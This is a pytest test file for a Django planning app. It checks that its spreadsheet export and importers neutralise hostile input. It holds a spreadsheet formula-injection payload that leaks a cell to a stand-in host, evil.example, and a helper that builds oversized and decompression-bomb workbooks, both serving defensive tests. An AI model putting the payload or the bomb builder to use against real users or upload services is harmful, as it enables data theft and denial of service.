"""Hostile data through the export and the importers: control characters, formulas, locked and
future months, unknown choices, over-long text, oversized and decompression-bomb workbooks.
Every refusal is a message naming where, never a server error, and writes nothing."""

import datetime
import io
import time
import zipfile

import pytest
from django.db import IntegrityError, transaction
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from indicators.models import Indicator
from milestones.models import Milestone, ProgressUpdate
from milestones.status import Status
from plans.importing import ImportRefused
from plans.models import LockedMonth, Plan, Theme
from reports.management.commands.import_indicators import read_indicator_rows
from reports.transfer import plan_export, plan_workbook_import
from tests.factories import default_organisation

from ..factories import IndicatorFactory, MilestoneFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
HEADER = "Action,Action Lead,Milestones,Planned Start Date,Due Date,Status,Progress Note,Milestone Lead,Theme\n"


@pytest.fixture
def plan(plan_today):
    milestone = MilestoneFactory(description="Audit case files")
    ProgressUpdate.objects.create(
        milestone=milestone, reporting_month=datetime.date(2009, 9, 1), status=Status.ON_TRACK, note="Sep 2009 - fine"
    )
    return milestone.action.plan


def sheets(content):
    return load_workbook(io.BytesIO(content))


def refused(**kwargs):
    with pytest.raises(ImportRefused) as raised:
        plan_workbook_import(**{"owner": default_organisation(), **kwargs})
    return [str(p) for p in raised.value.problems]


def state():
    return (
        Plan.objects.count(),
        Milestone.objects.count(),
        ProgressUpdate.objects.count(),
        Indicator.objects.count(),
        Theme.objects.count(),
    )


# 1. Control characters stored before they were refused cannot break the export.


def test_a_vertical_tab_stored_in_a_note_is_stripped_on_export(plan):
    milestone = Milestone.objects.get(action__plan=plan)
    ProgressUpdate.objects.create(  # as stored before the rule: objects.create skips full_clean
        milestone=milestone, reporting_month=datetime.date(2009, 10, 1), status=Status.ON_TRACK, note="Oct\x0b 2009\x1f"
    )
    workbook = sheets(plan_export(plan))
    notes = [row[4] for row in workbook["Progress history"].iter_rows(min_row=2, values_only=True)]
    assert "Oct 2009" in notes
    assert workbook["Milestones"]["H2"].value == "Oct 2009"


# 2. Formula injection: text that a spreadsheet would run is written as text, and reads back as written.


def test_a_formula_in_a_note_is_exported_as_text_and_reimports_unchanged(plan):
    milestone = Milestone.objects.get(action__plan=plan)
    ProgressUpdate.objects.create(
        milestone=milestone, reporting_month=datetime.date(2009, 10, 1), status=Status.ON_TRACK, note=FORMULA
    )
    for starts in ("+44 20 7946 0000", "-1 month", "@SUM(A1)", "\tindented"):
        ProgressUpdate.objects.create(
            milestone=milestone, reporting_month=datetime.date(2009, 10, 1), status=Status.ON_TRACK, note=starts
        )
    content = plan_export(plan)
    workbook = sheets(content)
    cells = [row[4] for row in workbook["Progress history"].iter_rows(min_row=2)]
    written = {c.value: c for c in cells}
    for text in (FORMULA, "+44 20 7946 0000", "-1 month", "@SUM(A1)", "\tindented"):
        assert written[text].data_type == "s" and written[text].quotePrefix, text
    assert workbook["Milestones"]["H2"].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet2.xml")  # no formula anywhere
    plan_workbook_import(owner=default_organisation(), plan_name="Copy", filename="export.xlsx", content=content)
    notes = set(ProgressUpdate.objects.filter(milestone__action__plan__name="Copy").values_list("note", flat=True))
    assert FORMULA in notes and "-1 month" in notes


# 4a. The progress-history sheet cannot write into a locked or a future month.


def _with_history_rows(content, *rows):
    workbook = sheets(content)
    for row in rows:
        workbook["Progress history"].append(row)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def test_history_rows_for_a_locked_or_future_month_are_refused_and_nothing_is_written(plan):
    LockedMonth.objects.create(plan=plan, month=datetime.date(2009, 9, 1), reason="Its snapshot was taken.")
    ref = plan.actions.get().ref
    content = plan_export(plan)
    assert (
        plan_workbook_import(
            owner=default_organisation(), plan_name=plan.name, filename="export.xlsx", content=content
        ).updates_added
        == 0
    )
    content = _with_history_rows(
        content,
        [ref, "Audit case files", "2009-09", "On track", "Rewritten after the snapshot"],
        [ref, "Audit case files", "2010-03", "Achieved", "From the future"],
        [ref, "Audit case files", "1900-01", "Achieved", "From the past"],
        [ref, "Audit case files", "2009-10", "Sideways", "Unknown status"],
    )
    before = state()
    assert refused(plan_name=plan.name, filename="export.xlsx", content=content) == [
        "Row 4, Progress history sheet, Month: Mar 2010 is in the future: progress can be reported for "
        "Nov 2009 or an earlier month.",
        "Row 5, Progress history sheet, Month: Jan 1900 is too early: a reporting month is Jan 2000 or later.",
        "Row 6, Progress history sheet, Status: 'Sideways' is not a status: use Achieved, On track, At risk, "
        "Not on track, Not started.",
        "Row 3, Progress history sheet, Month: Sep 2009 is locked (its snapshot has been taken): "
        "report on a later month.",
    ]
    assert state() == before


def test_a_note_dated_in_the_future_is_refused(plan_today):
    problems = refused(
        plan_name="Imported",
        filename="plan.csv",
        content=(HEADER + '1.01 X,Ann Lead,Thing,01 Jul 2009,31 Dec 2009,,"Mar 2010 - On track",,Theme\n').encode(),
    )
    assert problems == [
        "Row 2, Progress Note: Mar 2010 is in the future: progress can be reported for Nov 2009 or an earlier month."
    ]
    assert not Plan.objects.exists()


# 4b. Unknown choices are refused on import, and the database refuses them too.


def _with_indicator_cell(content, column, value):
    workbook = sheets(content)
    sheet = workbook["Indicators"]
    position = [c.value for c in sheet[1]].index(column) + 1
    sheet.cell(row=2, column=position, value=value)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


@pytest.mark.parametrize(
    "column, value, message",
    [
        ("Polarity", "sideways", "'sideways' is not a polarity: use one of higher, lower."),
        ("Frequency", "fortnightly", "'fortnightly' is not a frequency: use one of monthly, quarterly, annual."),
        ("Ytd Rule", "median", "'median' is not a ytd rule: use one of ratio, sum, average, latest, entered."),
        ("Unit", "furlongs", "'furlongs' is not a unit: use one of percentage, number, score, days."),
        ("Decimal Places", "many", "'many' is not a number of decimal places from 0 to 6."),
        ("Title", "x" * 301, "This text is 301 characters long; the limit is 300."),
    ],
)
def test_an_indicator_with_an_unknown_choice_is_refused(plan, column, value, message):
    IndicatorFactory(plan=plan)
    content = _with_indicator_cell(plan_export(plan), column, value)
    before = state()
    assert refused(plan_name="Copy", filename="export.xlsx", content=content) == [
        f"Row 2, Indicators sheet, {column}: {message}"
    ]
    assert state() == before


def test_an_indicator_choice_may_be_written_as_its_label(plan):
    IndicatorFactory(plan=plan, polarity="higher")
    content = _with_indicator_cell(plan_export(plan), "Polarity", "Lower is better")
    plan_workbook_import(owner=default_organisation(), plan_name="Copy", filename="export.xlsx", content=content)
    assert Indicator.objects.get(plan__name="Copy").polarity == "lower"


@pytest.mark.parametrize(
    "model, field, value",
    [
        (Indicator, "polarity", "sideways"),
        (Indicator, "frequency", "weekly"),
        (Indicator, "ytd_method", "median"),
        (Indicator, "unit", "furlongs"),
    ],
)
def test_the_database_refuses_an_unknown_choice(plan, model, field, value):
    IndicatorFactory(plan=plan)
    with pytest.raises(IntegrityError), transaction.atomic():
        model.objects.all().update(**{field: value})


def test_the_database_refuses_an_unknown_status(plan):
    milestone = Milestone.objects.get(action__plan=plan)
    with pytest.raises(IntegrityError), transaction.atomic():  # append-only: no update; a new row
        ProgressUpdate.objects.create(milestone=milestone, reporting_month=datetime.date(2009, 10, 1), status="meh")


def test_the_indicator_pages_work_after_an_import(client, users, plan):
    IndicatorFactory(plan=plan)
    plan_workbook_import(
        owner=default_organisation(), plan_name="Copy", filename="export.xlsx", content=plan_export(plan)
    )
    copy = Plan.objects.get(name="Copy")
    client.force_login(users["programme_manager"])
    assert client.get(reverse("indicators:list", args=[copy.pk])).status_code == 200


# 4c. Text longer than the model allows is refused before the database sees it.


def test_a_theme_longer_than_the_field_is_kept_whole_and_flagged(plan_today):
    theme = "Priority objective " + "x " * 120
    content = (HEADER + f'1.01 X,Ann Lead,Thing,01 Jul 2009,31 Dec 2009,,,,"{theme}"\n').encode()
    summary = plan_workbook_import(
        owner=default_organisation(), plan_name="Imported", filename="plan.csv", content=content
    )
    name = Theme.objects.get().name
    assert len(name) <= 200 and name.endswith("…")
    assert summary.parsed.theme_texts == {name: theme.strip()}
    assert any("characters long" in flag.message for flag in summary.parsed.flags)


def test_control_characters_and_unknown_agencies_in_a_spreadsheet_are_refused(plan_today):
    content = (
        "Action,Action Lead,Milestones,Due Date,Progress Note,Milestone Lead,Theme,Agency\n"
        '1.01 X,Ann Lead,Thing,31 Dec 2009,"Oct 2009 - On\x0b track",,Theme,NHS\n'
        "1.02 Y,Ann Lead,Other,31 Dec 2009,,,Theme,Martians\n"
    ).encode()
    assert refused(plan_name="Imported", filename="plan.csv", content=content) == [
        "Row 2, Progress Note: This text holds an invisible control character (U+000B) at position 14; it is "
        "often pasted in from another program. Retype or remove it and save again.",
        "Row 3, Agency: 'Martians' is not an agency: use one of Council, NHS, Police, LSCB, School, "
        "Voluntary sector, Other.",
    ]
    assert not Plan.objects.exists()


# 4d. Oversized workbooks and CSVs: the real size is checked while streaming, fast.


def hostile_xlsx(sheet_rows, dimension="A1:XFD1048576", padding=b""):
    """A real workbook whose first sheet is replaced by hand: a declared dimension, then rows as given."""
    plain = io.BytesIO()
    Workbook().save(plain)
    output = io.BytesIO()
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                with target.open(item.filename, "w") as sheet:
                    sheet.write(
                        b'<?xml version="1.0" encoding="UTF-8"?>'
                        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                        + f'<dimension ref="{dimension}"/><sheetData>'.encode()
                    )
                    for chunk in sheet_rows:
                        sheet.write(chunk)
                    sheet.write(b"</sheetData>" + padding + b"</worksheet>")
            else:
                target.writestr(item, source.read(item.filename))
    return output.getvalue()


def text_row(number, *values):
    cells = "".join(f'<c r="{chr(65 + i)}{number}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values))
    return f'<row r="{number}">{cells}</row>'.encode()


HEADER_ROW = text_row(1, "Action", "Milestones", "Due Date", "Milestone Lead", "Theme")


def timed_refusal(filename, content):
    started = time.monotonic()
    problems = refused(plan_name="Hostile", filename=filename, content=content)
    elapsed = time.monotonic() - started
    assert elapsed < 2, f"took {elapsed:.1f} s"
    assert not Plan.objects.exists()
    return problems


def test_a_huge_declared_dimension_is_not_trusted(plan_today):
    content = hostile_xlsx([HEADER_ROW, text_row(2, "1.01 X", "Thing", "31 Dec 2009", "Ann Lead", "Theme")])
    assert len(content) < 10_000
    started = time.monotonic()
    summary = plan_workbook_import(
        owner=default_organisation(), plan_name="Small", filename="plan.xlsx", content=content, dry_run=True
    )
    assert summary.milestones_created == 1 and time.monotonic() - started < 2


def test_a_workbook_with_too_many_rows_is_refused_fast(plan_today):
    rows = (text_row(n, "1.01 X", f"Thing {n}", "31 Dec 2009", "Ann", "T") for n in range(2, 30_000))
    content = hostile_xlsx([HEADER_ROW, *rows])
    assert timed_refusal("plan.xlsx", content) == [
        "File: The sheet 'Sheet' has more than 20,000 rows; an import reads at most 20,000 (split the file)."
    ]


def test_a_far_away_row_is_refused_fast(plan_today):
    content = hostile_xlsx([HEADER_ROW, text_row(1_048_576, "far away")])
    assert "more than 20,000 rows" in timed_refusal("plan.xlsx", content)[0]


def test_a_workbook_with_too_many_columns_is_refused_fast(plan_today):
    wide = b'<row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c><c r="XFD2"><v>1</v></c></row>'
    content = hostile_xlsx([HEADER_ROW, wide])
    assert timed_refusal("plan.xlsx", content) == [
        "File: The sheet 'Sheet' row 2 has 16,384 columns; an import reads at most 60 "
        "(remove the extra columns and try again)."
    ]


def test_a_decompression_bomb_is_refused_before_it_is_read(plan_today):
    content = hostile_xlsx([HEADER_ROW], padding=b" " * (60 * 1024 * 1024))
    assert len(content) < 1024 * 1024
    problems = timed_refusal("plan.xlsx", content)
    assert problems[0].startswith("File: this workbook unpacks to 60 MB; an import reads at most 50 MB")


def test_an_oversized_file_is_refused_before_it_is_opened(plan_today):
    assert timed_refusal("plan.xlsx", b"PK" + b"\0" * (6 * 1024 * 1024)) == [
        "File: the file is 6.0 MB; the limit is 5 MB."
    ]


def test_a_csv_with_too_many_rows_or_columns_is_refused_fast(plan_today, settings):
    long = HEADER + "1.01 X,Ann,Thing,,31 Dec 2009,,,,T\n" * 20_001
    assert timed_refusal("plan.csv", long.encode()) == [
        "File: The file has more than 20,000 rows; an import reads at most 20,000 (split the file)."
    ]
    wide = HEADER + "1.01 X,Ann,Thing" + ",x" * 100 + "\n"
    assert "row 2 has 103 columns" in timed_refusal("plan.csv", wide.encode())[0]
    settings.IMPORT_MAX_ROWS = 2
    assert "more than 2 rows" in timed_refusal("plan.csv", (HEADER + "a,b,c\n" * 3).encode())[0]


def test_the_indicator_command_reads_within_the_limits(plan_today):
    content = hostile_xlsx([text_row(1, "Code", "Period"), text_row(5_000_000, "NI 1", "2009-10")])
    with pytest.raises(ImportRefused) as raised:
        read_indicator_rows("figures.xlsx", content)
    assert "more than 20,000 rows" in str(raised.value.problems[0])


def test_the_preview_page_shows_the_refusal(client, users, plan_today, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    client.force_login(users["programme_manager"])
    upload = io.BytesIO(hostile_xlsx([HEADER_ROW, text_row(1_048_576, "far away")]))
    upload.name = "plan.xlsx"
    response = client.post(reverse("reports:import"), {"plan": "Hostile", "file": upload})
    preview = client.get(response.url)
    assert preview.status_code == 200 and "more than 20,000 rows" in preview.content.decode()
    assert not Plan.objects.exists()
